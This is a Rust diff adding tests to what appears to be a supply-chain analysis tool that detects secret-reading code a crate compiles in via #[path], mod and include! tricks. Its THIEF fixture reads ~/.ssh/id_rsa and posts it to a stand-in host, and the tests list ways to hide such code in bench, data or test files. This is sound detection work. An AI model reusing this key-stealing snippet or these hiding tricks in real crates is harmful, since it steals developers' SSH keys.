@@ -291,3 +291,81 @@ fn real_crates_have_the_capabilities_that_people_found_in_them() {
         }
     }
 }
+
+/// What a library does with secrets, every file at hand that the code asks for.
+fn library_modules(files: &[(&str, &str)]) -> Vec<String> {
+    let mut keeper = SourceKeeper::new();
+    let give = |keeper: &mut SourceKeeper| {
+        for (path, text) in files {
+            keeper.file(path, text.as_bytes());
+        }
+    };
+    give(&mut keeper);
+    let has = |path: &str| files.iter().any(|(of, _)| *of == path);
+    for _ in 0..4 {
+        let record = keeper.measure(capability_table());
+        if !keeper.wants(&record, has) {
+            break;
+        }
+        if keeper.wanted().next().is_some() {
+            give(&mut keeper);
+        }
+    }
+    keeper.finish(capability_table()).secrets.modules.into_iter().map(|m| m.file).collect()
+}
+
+const THIEF: &str = "pub fn warm() { let k = std::fs::read(format!(\"{}/.ssh/id_rsa\", \
+                     std::env::var(\"HOME\").unwrap())).unwrap(); \
+                     let _ = ureq::post(\"https://t.example.invalid\").send_bytes(&k); }";
+
+#[test]
+fn what_a_library_compiles_in_is_library_code_whatever_it_is_called() {
+    let idle = "[package]\nname = 'a'\nversion = '1.0.0'\nbuild = false\n";
+    for manifest in [PLAIN, idle] {
+        for (library, file) in [
+            ("#[path = \"../benches/data.rs\"]\nmod data;", "benches/data.rs"),
+            ("#[path = \"data.inc\"]\nmod data;", "src/data.inc"),
+            ("mod tests;\npub use tests::warm;", "src/tests.rs"),
+            ("include!(\"data.txt\");", "src/data.txt"),
+            ("include!(\"../tests/data/cases.txt\");", "tests/data/cases.txt"),
+        ] {
+            let files = [("Cargo.toml", manifest), ("src/lib.rs", library), (file, THIEF)];
+            assert_eq!(library_modules(&files), [file], "{library}");
+            // Whatever the order.
+            let files = [(file, THIEF), ("src/lib.rs", library), ("Cargo.toml", manifest)];
+            assert_eq!(library_modules(&files), [file], "{library}");
+        }
+    }
+}
+
+#[test]
+fn tests_and_data_of_a_library_are_none_of_its_code() {
+    let inner = format!("#![cfg(test)]\n{THIEF}");
+    for (library, file, text) in [
+        ("#[cfg(test)]\nmod tests;", "src/tests.rs", THIEF),
+        ("#[cfg(all(test, feature = \"x\"))]\nmod tests;", "src/tests.rs", THIEF),
+        ("mod tests;", "src/tests.rs", inner.as_str()),
+        ("// mod tests;\npub fn f() {}", "src/tests.rs", THIEF),
+        ("const T: &str = include_str!(\"data.txt\");", "src/data.txt", THIEF),
+        ("pub fn f() {}", "benches/data.rs", THIEF),
+    ] {
+        let files = [("Cargo.toml", PLAIN), ("src/lib.rs", library), (file, text)];
+        assert_eq!(library_modules(&files), [""; 0], "{library} {text}");
+    }
+}
+
+#[test]
+fn what_lies_in_cargo_s_own_folder_did_not_come_with_the_crate() {
+    let library = "use proc_macro::TokenStream; #[proc_macro] pub fn t(_: TokenStream) -> TokenStream { \
+                   let mut all = String::new(); for f in std::fs::read_dir(\"target/registrations\").unwrap() { \
+                   all += &std::fs::read_to_string(f.unwrap().path()).unwrap(); } \
+                   all.parse::<TokenStream>().unwrap() }";
+    let manifest = "[package]\nname = 'a'\n[lib]\nproc-macro = true\n";
+    let flows = |more: &[(&str, &str)]| {
+        let mut files = vec![("Cargo.toml", manifest), ("src/lib.rs", library)];
+        files.extend(more);
+        record(&files).build.flows.len()
+    };
+    assert_eq!(flows(&[]), 0);
+    assert_ne!(flows(&[("target/registrations/a.dat", "x")]), 0);
+}
